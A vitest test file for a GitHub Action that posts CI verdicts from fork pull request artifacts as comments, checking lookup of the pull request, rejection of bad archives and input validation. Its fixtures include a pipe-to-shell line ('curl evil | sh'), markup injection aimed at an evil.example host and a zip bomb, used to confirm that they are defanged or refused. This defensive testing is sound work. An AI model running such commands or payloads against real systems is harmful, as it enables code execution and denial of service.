import { readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { parse } from "yaml";
import * as z from "zod";
import { defaultKey } from "../../../src/action/comment/key.ts";
import { GitHubApi } from "../../../src/action/github/api.ts";
import { judgedRun, pullsOf } from "../../../src/action/second-stage/judged-run.ts";
import { STAGE_OUTPUTS, secondStage } from "../../../src/action/second-stage/second-stage.ts";
import { readStageInputs, StageInputsSchema } from "../../../src/action/second-stage/stage-inputs.ts";
import { verdictJson } from "../../../src/report/verdict-json.ts";
import { REPOSITORY, TOKEN, type MockRun } from "../../github/world.ts";
import { zip } from "../../github/zip.ts";
import { hostileVerdict, verdictOf } from "../../report/verdict-fixture.ts";
import { CommentJob, HEAD, LATER_HEAD, PULL } from "../comment/job.ts";
import { Recorder } from "../recorder.ts";

/** The second stage against GitHub on loopback: it finds run, pull request and artifact by itself. */

let github: CommentJob;
beforeEach(async () => {
  github = await CommentJob.start((world) => world.pulls.splice(0));
});
afterEach(async () => {
  expect(github.world.breaches).toEqual([]);
  await github[Symbol.asyncDispose]();
});

const RUN = 700;
const report = Buffer.from(verdictJson(verdictOf({ verdict: "pass" })));
const ofFork: MockRun = {
  id: RUN,
  attempt: 2,
  name: "CI",
  event: "pull_request",
  headSha: HEAD,
  headBranch: "patch 1",
  headRepository: "stranger/app",
  pulls: [],
};

/** A run of a fork's pull request 7, with its artifact. */
function forkRun(change: Partial<MockRun> = {}, archive = zip({ name: "gyges-report.json", data: report })): void {
  github.world.runs.push({ ...ofFork, ...change });
  github.world.pull(PULL, HEAD, { label: "stranger:patch 1", headRepository: "stranger/app" });
  github.world.artifacts.push({ id: 31, run: RUN, name: "gyges-report-CI-gyges", zip: archive });
}

async function step(inputs: NodeJS.ProcessEnv = {}, event = "workflow_run"): Promise<Recorder> {
  const job = new Recorder({
    ...github.env({ workflow_run: { id: RUN } }, 900, 1, event),
    "INPUT_GITHUB-TOKEN": TOKEN,
    ...inputs,
  });
  await secondStage(job);
  return job;
}

test("the verdict on a fork is told on its pull request, with a word on who produced it", async () => {
  forkRun();
  const job = await step();
  const [comment] = github.world.comments;
  expect(job.done).toEqual([`comment-url=https://github.com/acme/app/pull/7#issuecomment-${comment?.id}`, `comment-id=${comment?.id}`]);
  expect(github.bodies).toHaveLength(1);
  const lines = github.bodies[0]!.split("\n");
  expect(lines.slice(0, 2)).toEqual(["<!-- gyges:v1:CI/gyges -->", `<!-- gyges:of head=${HEAD} run=700 attempt=2 -->`]);
  expect(lines.join("\n")).toContain("reported by code of a fork, which can make them up");
  expect(github.bodies[0]).toContain("gyges · PASS");
});

test("the verdict on a branch of this repository needs no such word", async () => {
  github.world.runs.push({ ...ofFork, headRepository: REPOSITORY, headBranch: "change", pulls: [PULL] });
  github.world.pull(PULL, HEAD);
  github.world.artifacts.push({ id: 31, run: RUN, name: "gyges-report-CI-gyges", zip: zip({ name: "gyges-report.json", data: report }) });
  await step();
  expect(github.bodies[0]).toContain("gyges · PASS");
  expect(github.bodies[0]).not.toContain("code of a fork");
  expect(github.world.counts()["pulls/list"]).toBe(undefined);
});

test("a run whose fork is gone has no pull request, and GitHub is not asked for one", async () => {
  forkRun();
  const api = new GitHubApi({ url: github.url, token: TOKEN });
  const run = await judgedRun(api, REPOSITORY, RUN);
  expect(await pullsOf(api, REPOSITORY, run)).toEqual([PULL]);
  expect(await pullsOf(api, REPOSITORY, { ...run, head_repository: null })).toEqual([]);
  expect(github.world.counts()["pulls/list"]).toBe(1);
});

test("a newer run of the same head takes the comment over, an older one does not", async () => {
  forkRun();
  await step();
  github.world.runs.push({ ...ofFork, id: 699 });
  github.world.artifacts.push({
    id: 30,
    run: 699,
    name: "gyges-report-CI-gyges",
    zip: zip({ name: "gyges-report.json", data: verdictJson(verdictOf()) }),
  });
  expect((await step({ "INPUT_RUN-ID": "699" })).log).toContain("tells a newer verdict");
  expect(github.bodies).toHaveLength(1);
  expect(github.bodies[0]).toContain("gyges · PASS");
});

test("the number of the pull request comes from GitHub, found behind other people's by the head's commit", async () => {
  github.world.pull(5, LATER_HEAD, { label: "stranger:patch 1" });
  github.world.pull(6, HEAD, { label: "someone:patch 1" });
  github.world.pull(4, HEAD, { label: "stranger:patch 1", state: "closed" });
  forkRun();
  await step();
  expect(github.world.comments.map(({ issue }) => issue)).toEqual([PULL]);
});

test.each<[string, () => void, RegExp]>([
  [
    "the head has moved on",
    () => (forkRun(), void (github.world.pulls[0]!.sha = LATER_HEAD)),
    /no open pull request has the head aaaaaaaaaaaa/,
  ],
  ["the pull request is closed", () => (forkRun(), void (github.world.pulls[0]!.state = "closed")), /no open pull request/],
  [
    "two pull requests have the head",
    () => (forkRun(), void github.world.pull(8, HEAD, { label: "stranger:patch 1" })),
    /several pull requests/,
  ],
  ["the run was of a push", () => forkRun({ event: "push" }), /judged no pull request, its event was push/],
  ["the run left no report", () => (forkRun(), void github.world.artifacts.splice(0)), /no artifact gyges-report-CI-gyges/],
  [
    "the report has expired",
    () => {
      forkRun();
      const [artifact] = github.world.artifacts.splice(0);
      github.world.artifacts.push({ ...artifact!, expired: true });
    },
    /no artifact/,
  ],
])("where %s there is no comment, and the job is green without a warning", async (_, prepare, why) => {
  prepare();
  const job = await step();
  expect(job.done).toEqual(["comment-url=", "comment-id="]);
  expect(job.log).toMatch(why);
  expect(github.bodies).toEqual([]);
});

test.each<[string, Buffer, RegExp]>([
  ["that is no archive", Buffer.from("no archive"), /cannot be unpacked/],
  ["with another file in it", zip({ name: "evil.sh", data: "" }), /not named gyges-report.json/],
  ["with a bomb in it", zip({ name: "gyges-report.json", data: Buffer.alloc(32 << 20), claimedSize: 10 }), /too many bytes/],
  ["of more than a MiB", Buffer.alloc((1 << 20) + 1), /longer than 1048576 bytes/],
  ["with Markdown in it", zip({ name: "gyges-report.json", data: "# PASS" }), /no JSON/],
])("an artifact %s is not told, and the job is green with a warning", async (_, archive, why) => {
  forkRun({}, archive);
  const job = await step();
  expect(job.done.slice(0, 2)).toEqual(["comment-url=", "comment-id="]);
  expect(job.done[2]).toMatch(/^warn no comment: the artifact was not read: /);
  expect(job.done[2]).toMatch(why);
  expect(github.bodies).toEqual([]);
});

test("an artifact that is longer than GitHub says is read no further than a MiB", async () => {
  forkRun();
  const [artifact] = github.world.artifacts.splice(0);
  github.world.artifacts.push({ ...artifact!, zip: Buffer.alloc(3 << 20), claimedSize: 1000 });
  expect((await step()).done[2]).toMatch(/longer than 1048576 bytes/);
});

test("what a report says in its own words is defanged, and no command of a stranger is shown to be pasted", async () => {
  const payload = "<img src=x> @acme/owners ![x](https://evil.example) `curl evil | sh`";
  const verdict = hostileVerdict(payload);
  forkRun({}, zip({ name: "gyges-report.json", data: verdictJson({ ...verdict, run: { ...verdict.run, command: payload } }) }));
  await step();
  expect(github.bodies[0]).toContain("gyges · ");
  const own = /\[run and report files\]\(https:\/\/github\.com\/[\w./-]*\)/;
  expect(github.bodies[0]!.replace(own, "")).not.toMatch(/<img|@acme|[^\\]\]\(https:/);
  expect(github.bodies[0]).not.toContain("Reproduce");
});

test("of a run that was run again the last artifact is read", async () => {
  forkRun({}, Buffer.from("an old one"));
  github.world.artifacts.push({ id: 32, run: RUN, name: "gyges-report-CI-gyges", zip: zip({ name: "gyges-report.json", data: report }) });
  await step();
  expect(github.bodies[0]).toContain("gyges · PASS");
});

test("key and artifact may be named, and the run too on another event", async () => {
  forkRun();
  github.world.artifacts.push({ id: 33, run: RUN, name: "mine", zip: zip({ name: "gyges-report.json", data: report }) });
  await step({ "INPUT_RUN-ID": "700", "INPUT_ARTIFACT-NAME": "mine", "INPUT_COMMENT-KEY": "my key" }, "workflow_dispatch");
  expect(github.bodies[0]?.split("\n")[0]).toBe("<!-- gyges:v1:my key -->");
});

test.each<[string, NodeJS.ProcessEnv, RegExp]>([
  ["an event of no run", { GITHUB_EVENT_NAME: "push" }, /which run judged[^]*run-id/],
  ["an unknown input", { INPUT_RUN: "700" }, /unknown key "run"/],
  ["a run that is no number", { "INPUT_RUN-ID": "7e2" }, /run-id: wanted the number/],
  ["a key with a bracket", { "INPUT_COMMENT-KEY": "a>b" }, /comment-key/],
  ["no token", { "INPUT_GITHUB-TOKEN": "" }, /github-token/],
])("%s turns the job red with what to type", async (_, env, why) => {
  forkRun();
  const job = await step(env);
  expect(job.done.find((one) => one.startsWith("fail "))).toMatch(why);
  expect(github.bodies).toEqual([]);
});

test("a token that may not read the run warns with the permissions", async () => {
  forkRun();
  github.world.fail({ operation: "actions/get-workflow-run", status: 403 });
  expect((await step()).done[2]).toMatch(/^warn no comment: .*403[^]*permissions:\n {6}actions: read\n {6}pull-requests: write/);
});

test("a token that may not write warns with the same", async () => {
  forkRun();
  github.world.readOnly = true;
  expect((await step()).done[2]).toMatch(/^warn the comment could not be written: [^]*actions: read\n {6}pull-requests: write/);
});

const root = resolve(import.meta.dirname, "../../..");
const Action = z.object({
  inputs: z.record(z.string(), z.strictObject({ description: z.string().min(10), default: z.string().optional() })),
  outputs: z.record(z.string(), z.strictObject({ description: z.string().min(10) })),
  runs: z.strictObject({ using: z.literal("node24"), main: z.literal("../dist/action/comment.js") }),
});

test("comment/action.yml names the inputs and outputs of the code, with its defaults", () => {
  const action = Action.parse(parse(readFileSync(join(root, "comment/action.yml"), "utf8")));
  expect(Object.keys(action.inputs)).toEqual(Object.keys(StageInputsSchema.shape));
  expect(Object.keys(action.outputs)).toEqual(STAGE_OUTPUTS);
  // The token's default is an expression, which is the runner's to fill in.
  const given = Object.entries(action.inputs).filter(([name]) => name !== "github-token");
  const written = given.map(([name, { default: value }]) => [`INPUT_${name.toUpperCase()}`, value ?? ""]);
  expect(readStageInputs(Object.fromEntries(written))).toEqual(readStageInputs({}));
});

test("the example workflow looks for the comment and the artifact of the example that judges", () => {
  const Workflow = z.object({
    name: z.string(),
    jobs: z.record(z.string(), z.object({ steps: z.array(z.object({ with: z.unknown().optional() })) })),
  });
  const [judging, telling] = ["gyges.yml", "gyges-comment.yml"].map((name) =>
    Workflow.parse(parse(readFileSync(join(root, "examples/workflow", name), "utf8"))),
  );
  const given = z.record(z.string(), z.string()).parse(telling?.jobs["comment"]?.steps[0]?.with);
  const inputs = readStageInputs(Object.fromEntries(Object.entries(given).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value])));
  expect(inputs["comment-key"]).toBe(defaultKey(judging?.name, Object.keys(judging?.jobs ?? {})[0]));
});
